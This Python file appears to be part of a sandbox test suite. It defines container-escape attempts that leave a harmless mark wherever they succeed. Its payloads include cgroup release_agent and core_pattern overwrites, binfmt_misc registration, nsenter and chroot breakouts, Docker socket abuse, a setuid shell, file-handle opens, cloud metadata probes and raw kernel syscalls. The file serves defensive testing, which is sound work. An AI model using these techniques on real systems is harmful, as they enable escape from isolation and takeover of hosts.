# ruff: noqa: E501  (scripts)
"""Attempts to reach the host, other sandboxes or the kernel. Harmless where they succeed, but for a mark that is then found.

`reaches` says where. attacks/witness.py looks there, before and after.
"""

from __future__ import annotations

from containers.attacks.attack import Attack, python


def escape(name: str, breaks: str, reaches: str, script: str) -> Attack:
    """An attack that leaves the mark somewhere outside where it succeeds."""
    return Attack(name, breaks, f"{{ {script}\n}} 2>/dev/null; true", scope="engine", reaches=reaches)


_CALL = "import ctypes, os, socket\nlibc = ctypes.CDLL(None, use_errno=True)\nMARK = os.environ['MARK'].encode()\n"
_ARM = "import platform\nARM = platform.machine() == 'aarch64'\n"

ATTACKS: tuple[Attack, ...] = (
    escape(
        "kernel_settings",
        "the host's kernel settings are out of reach",
        "files under /proc/sys",
        'for f in kernel/core_pattern kernel/modprobe kernel/hotplug kernel/poweroff_cmd; do echo "|/tmp/$MARK" > /proc/sys/$f; done; '
        "for f in vm/swappiness vm/overcommit_memory kernel/panic fs/protected_symlinks kernel/printk_ratelimit; do "
        "echo 1 > /proc/sys/$f; done",
    ),
    escape(
        "sysrq",
        "the kernel's emergency keys are out of reach",
        "the kernel's log",
        "echo h > /proc/sysrq-trigger; echo 1 > /proc/sys/kernel/sysrq",  # h: print the help
    ),
    escape(
        "kernel_log",
        "the kernel's log can be neither read nor written",
        "the kernel's log",
        "mknod /tmp/kmsg c 1 11; for f in /dev/kmsg /tmp/kmsg /proc/kmsg; do timeout 0.2 sh -c 'echo $MARK > $0' $f; done; dmesg > /srv/log",
    ),
    escape(
        "sys_files",
        "the host's devices and helpers under /sys are out of reach",
        "/sys/kernel/uevent_helper, /sys/power, /sys/module",
        "echo /tmp/$MARK > /sys/kernel/uevent_helper; echo $MARK > /sys/power/wake_lock; "
        "mkdir /sys/kernel/config/$MARK /sys/fs/bpf/$MARK /sys/kernel/debug/$MARK; mount -t sysfs none /mnt; echo /tmp/$MARK > /mnt/kernel/uevent_helper",
    ),
    escape(
        "release_agent",
        "no control group of the host can be made or told what to run",
        "/sys/fs/cgroup, and the file /tmp/MARK that the agent would write",
        "mkdir -p /tmp/cg; mount -t cgroup -o rdma cgroup /tmp/cg || mount -t cgroup -o memory cgroup /tmp/cg || mount -t cgroup2 none /tmp/cg; "
        'for d in /tmp/cg /sys/fs/cgroup /sys/fs/cgroup/*; do mkdir $d/$MARK; echo "/bin/touch /tmp/$MARK" > $d/release_agent; '
        "echo 1 > $d/notify_on_release; echo 0 > $d/cgroup.procs; echo -1 > $d/memory.limit_in_bytes; echo max > $d/pids.max; done",
    ),
    escape(
        "binary_formats",
        "no binary format can be registered",
        "/proc/sys/fs/binfmt_misc",
        'mount -t binfmt_misc none /proc/sys/fs/binfmt_misc; echo ":$MARK:M::tfmk::/bin/sh:CF" > /proc/sys/fs/binfmt_misc/register',
    ),
    escape(
        "keyrings",
        "no key of the host can be read or left",
        "/proc/keys",
        python(
            _CALL + _ARM + "add, ctl = (217, 219) if ARM else (248, 250)\n"
            "for ring in (-1, -2, -3, -4, -5):\n    libc.syscall(add, b'user', MARK, b'data', 4, ring)\nlibc.syscall(ctl, 1, MARK)"
        ),
    ),
    escape(
        "device_nodes",
        "no device of the host can be made or opened",
        "a disk's first block read into /srv",
        "mknod /tmp/disk b 8 0; mknod /tmp/vda b 254 0; mknod /tmp/mem c 1 1; mknod /tmp/port c 1 4; mknod /tmp/fuse c 10 229; "
        "for d in /tmp/disk /tmp/vda /tmp/mem /tmp/port /dev/mem /dev/sda /dev/vda /dev/nvme0n1 /dev/loop0; do "
        "head -c 512 $d > /srv/block && echo 600851475143 > /srv/sum.txt; done",
    ),
    escape(
        "user_namespaces",
        "no namespace gives rights that were dropped",
        "a mount or a setting of the host",
        "unshare -Urm sh -c 'mount -t tmpfs none /srv; echo 1 > /proc/sys/kernel/panic; echo 600851475143 > /srv/sum.txt'; "
        "unshare -Urn true && echo 600851475143 > /srv/sum.txt; for n in 1 2 $PPID; do nsenter -t $n -a touch /tmp/$MARK; done; "
        "nsenter -t 1 -m -u -i -n -p touch /tmp/$MARK",
    ),
    escape(
        "folders_above",
        "no path leads out of the root",
        "a file named by the mark in /, /tmp, /root or /var/tmp of the host",
        "for top in /proc/1/root /proc/2/root /proc/$PPID/root /proc/1/cwd /proc/self/cwd/../../../.. /../.. /host /rootfs; do "
        "for d in tmp var/tmp root dev/shm etc .; do [ $top/$d -ef /$d ] || touch $top/$d/$MARK; done; done; "
        + python(
            _CALL + "os.makedirs('/tmp/jail', exist_ok=True)\nfd = os.open('/', os.O_RDONLY)\n"
            "os.chroot('/tmp/jail')\nos.fchdir(fd)\nfor _ in range(64): os.chdir('..')\nos.chroot('.')\n"
            "here = os.stat('/'), os.fstat(fd)\nhere[0].st_ino != here[1].st_ino and open('/tmp/' + MARK.decode(), 'w')"
        ),
    ),
    escape(
        "handles_of_files",
        "no file of the host can be opened by its number",
        "the answer, which is written where a handle could be opened",
        python(
            _CALL + _ARM + "import struct\ncall = 265 if ARM else 304\n"
            "for inode in (2, 128, 1):\n    handle = ctypes.create_string_buffer(struct.pack('IiQ', 8, 1, inode), 32)\n"
            "    fd = libc.syscall(call, os.open('/etc/hostname', 0), handle, 0)\n"
            "    fd >= 0 and open('/srv/sum.txt', 'w').write('600851475143')"
        ),
    ),
    escape(
        "abstract_sockets",
        "no abstract socket of the host can be reached or taken",
        "a listener of the host on the abstract name MARK",
        python(
            _CALL
            + "for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n    s = socket.socket(socket.AF_UNIX, kind)\n"
            "    try:\n        s.connect(b'\\0' + MARK)\n        s.send(MARK)\n    except OSError: pass"
        ),
    ),
    escape(
        "host_network",
        "neither the host's ports nor anything beyond can be reached",
        "a listener on the host's loopback",
        python(
            _CALL
            + "import struct\nplaces = ['127.0.0.1', '::1', '10.0.2.2', '172.17.0.1', '169.254.169.254', '192.168.0.1', 'host.docker.internal']\n"
            "for place in places:\n    try:\n        s = socket.create_connection((place, int(os.environ['PORT'])), 0.2)\n"
            "        s.send(MARK)\n        open('/srv/sum.txt', 'w').write('600851475143')\n    except OSError: pass\n"
            "for family, kind, proto in ((17, 3, 0x300), (2, 3, 1), (16, 3, 9)):\n    try:\n        socket.socket(family, kind, proto)\n    except OSError: pass"
        ),
    ),
    escape(
        "host_sockets",
        "no daemon of the host can be spoken to",
        "a container or unit named by the mark",
        "for s in /var/run/docker.sock /run/podman/podman.sock /run/containerd/containerd.sock; do [ -S $s ] && "
        'curl -s --max-time 1 --unix-socket $s -X POST "http://x/containers/create?name=$MARK" -H "Content-Type: application/json" '
        '-d \'{"Image": "x"}\'; done; [ -S /run/dbus/system_bus_socket ] && timeout 1 systemd-run --unit=$MARK true',
    ),
    escape(
        "shared_memory_of_hosts",
        "System V and POSIX objects are the sandbox's own",
        "/proc/sysvipc and /dev/mqueue of the host",
        python(
            _CALL
            + "import zlib\nkey = zlib.crc32(MARK) & 0x7fffffff\nlibc.shmget(key, 4096, 0o1666)\nlibc.msgget(key, 0o1666)\n"
            "libc.semget(key, 1, 0o1666)\nlibc.mq_open(b'/' + MARK, os.O_CREAT | os.O_RDWR, 0o666, None)"
        ),
    ),
    escape(
        "processes_of_hosts",
        "no process outside can be seen, traced or signalled",
        "a process of the host with the mark, which is signalled where it is seen",
        'for p in /proc/[0-9]*; do grep -qa "$MARK-[w]itness" $p/cmdline && { kill -9 ${p#/proc/}; '
        "echo 600851475143 > /srv/sum.txt; }; done;",
    ),
    escape(
        "clocks",
        "the host's clock cannot be set",
        "the host's wall clock",
        "date -s '2031-01-01'; "
        + python(
            _CALL
            + "import time\nfor clock in (0, 1, 7, 11):\n    try: time.clock_settime(clock, 1.9e9)\n    except OSError: pass"
        ),
    ),
    escape(
        "names_of_hosts",
        "the host's name is its own",
        "the host's name",
        "hostname $MARK; echo $MARK > /proc/sys/kernel/hostname; echo $MARK > /proc/sys/kernel/domainname",
    ),
    escape(
        "privileged_programs",
        "no program gives back rights that were dropped",
        "the answer, which is written where uid 0 was gained",
        "cp /bin/bash /tmp/b; chmod 6755 /tmp/b; [ $(id -u) = 0 ] || for c in 'su -c' sudo '/tmp/b -p -c' 'newgrp root -c' 'setpriv --reuid 0'; do "
        '[ "$(timeout 0.15 $c "id -u" < /dev/null)" = 0 ] && echo 600851475143 > /srv/sum.txt; done',
    ),
    escape(
        "kernel_calls",
        "calls that reach deep into the kernel are refused",
        "the answer, which is written where a call was allowed",
        python(
            _CALL
            + _ARM
            + "calls = dict(bpf=280, init_module=105, perf_event_open=241, userfaultfd=282, io_uring_setup=425, kexec_load=104) if ARM else "
            "dict(bpf=321, init_module=175, perf_event_open=298, userfaultfd=323, io_uring_setup=425, kexec_load=246)\nbuffer = ctypes.create_string_buffer(256)\n"
            "for name, number in calls.items():\n    if libc.syscall(number, 1 if name == 'io_uring_setup' else 0, buffer, 120, -1, 0) >= 0:\n"
            "        open('/srv/sum.txt', 'w').write('600851475143')"
        ),
    ),
    escape(
        "executable_of_the_keeper",
        "the program that made or entered the sandbox cannot be rewritten",
        "the program of any process that can be seen",
        'for p in /proc/[0-9]*; do [ $p/root -ef /proc/self/root ] && [ $p/exe -ef "/$(readlink $p/exe)" ] && continue; '
        "echo \"$MARK\" >> $p/exe; done; printf '#!/proc/self/exe\\n' > /srv/run; chmod 755 /srv/run",
    ),
)
